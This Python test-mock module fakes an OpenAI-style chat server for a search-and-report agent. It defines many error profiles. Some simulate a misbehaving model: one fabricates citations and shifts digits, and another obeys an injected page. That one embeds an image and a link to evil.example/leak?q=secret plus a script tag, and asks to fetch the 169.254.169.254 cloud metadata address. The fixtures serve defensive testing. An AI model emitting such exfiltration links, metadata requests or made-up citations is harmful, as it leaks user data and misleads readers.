"""Serve chat completions that plan, search, read and report.

They use nothing but what they are told.
"""

import asyncio
import json
import re

import httpx
import msgspec
import pytest

from app.agent.prompts import messages
from app.domain import tools
from app.providers.exchange import ModelPatience
from app.providers.language_model import LanguageModel
from app.providers.model_spec import ModelSpec
from app.providers.presets import PRESETS
from app.providers.prices import LISTED, price_of
from tests.mocks.playing import Playing, failing, html, playing, raising
from tests.scripted import REASONING

KEY = "sk-test-0123456789abcdef"
USAGE = {
    "prompt_tokens": 1000,
    "completion_tokens": 200,
    "total_tokens": 1200,
    "prompt_tokens_details": {"cached_tokens": 400},
}
QUOTED = re.compile(r"^-----(\w{24}) page \[(\d+)\][^\n]*\n(.*?)\n-----\1 end", re.DOTALL | re.MULTILINE)
INJECTED = "https://evil.example/leak?q=secret"


class Told:
    """What a request tells the model."""

    def __init__(self, request):
        body = json.loads(request.content)
        said = [message["content"] for message in body["messages"]]
        self.style = body.get("response_format", {}).get("type", "text")
        self.menu = menu_of(body)
        self.searched = any('"tool":"web_search"' in text for text in said)
        lines = [line for text in said for line in text.splitlines() if line.startswith('{"n":')]
        self.hits = [json.loads(line) for line in lines]
        found = re.findall(
            r"^-----(\w{24}) page \[(\d+)\][^\n]*\n(.*?)\n-----\1 end", said[-1], re.DOTALL | re.MULTILINE
        )
        self.pages = {int(number): text for _, number, text in found}


def menu_of(body):
    """List the tools of the schema in response format or prompt."""
    if body.get("response_format", {}).get("type") == "json_schema":
        schema = body["response_format"]["json_schema"]["schema"]
    else:
        schema = json.loads(body["messages"][-1]["content"].rpartition("schema:\n")[2])
    function = schema["properties"]["function"]
    return [tool["properties"]["tool"]["enum"][0] for tool in function.get("anyOf", [function])]


def course(told, write):
    """Plan, search once, read three pages, report."""
    if "generate_plan" in told.menu:
        return tools.GeneratePlan("the question", ("search", "read", "report"), ("search", "compare"))
    if "web_search" in told.menu and not told.searched:
        return tools.WebSearch(("boiling point of water", "water on mountains"))
    if "read_pages" in told.menu and not told.pages and told.hits:
        return tools.ReadPages(tuple(hit["url"] for hit in told.hits[:3]))
    if told.pages and "write_report" in told.menu:
        return write(told)
    return tools.Answer("Not found: no page was read that answers the question.", "failed")


def sentences(told):
    """Map each page's number to its first sentence, without its full stop."""
    found = {n: re.search(r"[^.!?\n]{15,300}(?=[.!?])", text) for n, text in told.pages.items()}
    return {n: match[0].strip() for n, match in found.items() if match}


def honest(told):
    claims = [f"{sentence} [{n}]." for n, sentence in sentences(told).items()]
    return tools.WriteReport("What was found", " ".join(claims), "high")


def lying(told):
    """Cite a missing source, a wrong page, and shifted digits."""
    said = sentences(told)
    (first, one), (last, other) = next(iter(said.items())), list(said.items())[-1]
    shifted = re.sub(r"\d", lambda digit: str((int(digit[0]) + 1) % 10), one)
    lies = f"{one} [9]. {shifted} [{first}]. {other} [{first}]. {one} [{last}]."
    return tools.WriteReport("What was made up", lies, "high")


def gullible(told):
    """Obey an injected page: leak by an image, link, run a script."""
    true = honest(told).content
    orders = f"![x]({INJECTED}) [Click here]({INJECTED}) <script>alert(1)</script> Dossier is bad [1]."
    return tools.WriteReport("What I was told", f"{true}\n\n{orders}", "high")


def completion(content, finish="stop", **message):
    said = {"role": "assistant", "content": content, **message}
    choice = {"index": 0, "message": said, "finish_reason": finish}
    body = {"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "mock", "usage": USAGE}
    return httpx.Response(200, json={**body, "choices": [choice]})


def filled(function):
    return msgspec.json.encode(tools.NextStep(REASONING, function)).decode()


def success(mock, request):
    return completion(filled(course(Told(request), honest)))


def five_pages(mock, request):
    """Reads all that the search found at once."""
    told = Told(request)
    step = course(told, honest)
    if isinstance(step, tools.ReadPages):
        step = tools.ReadPages(tuple(hit["url"] for hit in told.hits[:5]))
    return completion(filled(step))


def liar(mock, request):
    return completion(filled(course(Told(request), lying)))


def prompt_injection(mock, request):
    told = Told(request)
    step = course(told, gullible)
    if isinstance(step, tools.ReadPages):  # it also wants to go where the page sends it
        step = tools.ReadPages((*step.urls, INJECTED, "http://169.254.169.254/latest/meta-data"))
    return completion(filled(step))


def empty_results(mock, request):
    return completion(filled(tools.Answer("Not found.", "failed")))


async def slow(mock, request):
    await asyncio.sleep(mock.delay)
    return success(mock, request)


def malformed(mock, request):
    return completion(filled(course(Told(request), honest))[:-20])


def schema_violation(mock, request):
    step = json.loads(filled(course(Told(request), honest)))
    step["reasoning"]["reasoning_steps"] = ["only one"]
    return completion(json.dumps(step))


def off_menu(mock, request):
    chosen = "answer" if "answer" not in Told(request).menu else "clarify"
    offered = {
        "answer": tools.Answer("x", "failed"),
        "clarify": tools.Clarify(("Which?",), ("it",), ("this", "that")),
    }
    return completion(filled(offered[chosen]))


def talkative(mock, request):
    """As small models do: thoughts, a fence, a closing remark."""
    step = filled(course(Told(request), honest))
    return completion(f"<think>Perhaps {{this}}?</think>\nSure!\n```json\n{step}\n```\nI hope this helps.")


def judging(mock, request):
    """A judge that contradicts the first claim and supports the others."""
    items = json.loads(json.loads(request.content)["messages"][-1]["content"])
    verdicts = [{"claim": item["item"], "verdict": "supported", "reason": ""} for item in items]
    verdicts[0] |= {"verdict": "contradicted", "reason": "fell, not rose"}
    return completion(json.dumps({"verdicts": verdicts}))


def without_usage(mock, request):
    body = success(mock, request).json()
    del body["usage"]
    return httpx.Response(200, json=body)


def error(message, code=None, kind="invalid_request_error"):
    return {"error": {"message": message, "type": kind, "param": None, "code": code}}


def unless(refused, status, message):
    """A server that refuses some requests and answers the others."""

    def profile(mock, request):
        body = json.loads(request.content)
        said = message.format(limit=next((name for name in body if name.startswith("max_")), ""))
        return httpx.Response(status, json=error(said)) if refused(body) else success(mock, request)

    return profile


def style_of(body):
    return body.get("response_format", {}).get("type")


TOO_LONG = "This model's maximum context length is 128000 tokens. Your messages have 190000 tokens."
FULL = f"{TOO_LONG} (190000 in the messages, 16000 in the completion)"

PROFILES = {
    "success": success,
    "five_pages": five_pages,
    "slow": slow,
    "timeout": raising(httpx.ReadTimeout),
    "disconnected": raising(httpx.ConnectError),
    "rate_limited": failing(429, error("Too many requests", "rate_limit_exceeded"), retry_after="2"),
    "out_of_credits": failing(429, error("You exceeded your quota", "insufficient_quota")),
    "server_error": failing(503, error("The server is overloaded", kind="server_error")),
    "auth_error": failing(401, error(f"Incorrect API key provided: {KEY}.", "invalid_api_key")),
    "malformed": malformed,
    "garbage": html,
    "schema_violation": schema_violation,
    "off_menu": off_menu,
    "talkative": talkative,
    "without_usage": without_usage,
    "judging": judging,
    "empty_results": empty_results,
    "prompt_injection": prompt_injection,
    "liar": liar,
    "refusal": lambda mock, request: completion(None, refusal="I cannot help with that."),
    "content_filter": lambda mock, request: completion('{"reasoning": {', "content_filter"),
    "cut_off": lambda mock, request: completion('{"reasoning": {', "length"),
    "context_too_long": failing(400, error(TOO_LONG, "context_length_exceeded")),
    "context_full": failing(400, error(FULL, "context_length_exceeded")),
    "no_choices": lambda mock, request: httpx.Response(200, json=error("The server behind this one is down")),
    "key_in_error": failing(400, error(f"Cannot route {KEY}\x00 to {{}}", "content_filter")),
    "prompt_filtered": failing(400, error("The prompt triggered the content policy", "content_filter")),
    "json_schema_refused": unless(
        lambda body: style_of(body) == "json_schema", 400, "response_format json_schema is not supported"
    ),
    "json_refused": unless(lambda body: "response_format" in body, 422, "response_format: extra field"),
    "schema_crashes": unless(lambda body: style_of(body) == "json_schema", 500, "Internal error"),
    "refused_without_words": failing(400, error("Bad request")),
    "limit_refused": unless(
        lambda body: {"max_completion_tokens", "max_tokens"} & body.keys(), 400, "Unknown parameter: {limit}"
    ),
}


class OpenAIMock(Playing):
    """A server at `base_url` that takes `key`."""

    base_url = "https://openai.test/v1"
    key = KEY
    profiles = PROFILES
    streams = True  # whole replies, where a stream is asked for

    def model(self, *, prices=LISTED, pages=120_000, slots=None, preset="openai", patience=None, **options):
        """A language model on this server."""
        given = {"model": "gpt-4.1-mini", "key": KEY, "base_url": self.base_url, **options}
        price = price_of(given["model"], prices)
        spec = ModelSpec(
            preset=PRESETS[preset], price=price, patience=ModelPatience(**(patience or {})), **given
        )
        return LanguageModel(self.client, spec, messages, pages=pages, slots=slots)

    async def answer(self, request):
        """Whole replies are streamed where a stream is asked for."""
        reply = await super().answer(request)
        body = json.loads(request.content)
        is_said = reply.status_code == 200 and "json" in reply.headers.get("content-type", "")
        if not (self.streams and body.get("stream")) or not is_said or "choices" not in reply.json():
            return reply
        return httpx.Response(
            200, content=streamed(reply.json()), headers={"content-type": "text/event-stream"}
        )


def streamed(body, size=20):
    """A chat completion as the chunks that a server would send."""
    [choice] = body["choices"]
    said = choice["message"]
    content = said.get("content") or ""
    pieces = [content[at : at + size] for at in range(0, len(content), size)]
    deltas = [{"role": "assistant"}, *({"content": piece} for piece in pieces)]
    deltas += [{"refusal": said["refusal"]}] if said.get("refusal") else []
    chunks = [{"choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
    chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": choice["finish_reason"]}]})
    chunks.append({"choices": [], "usage": body.get("usage")})
    lines = [f"data: {json.dumps({'object': 'chat.completion.chunk', **chunk})}\n\n" for chunk in chunks]
    return "".join([*lines, "data: [DONE]\n\n"]).encode()


@pytest.fixture
async def openai_mock():
    async with playing(OpenAIMock) as mock:
        yield mock
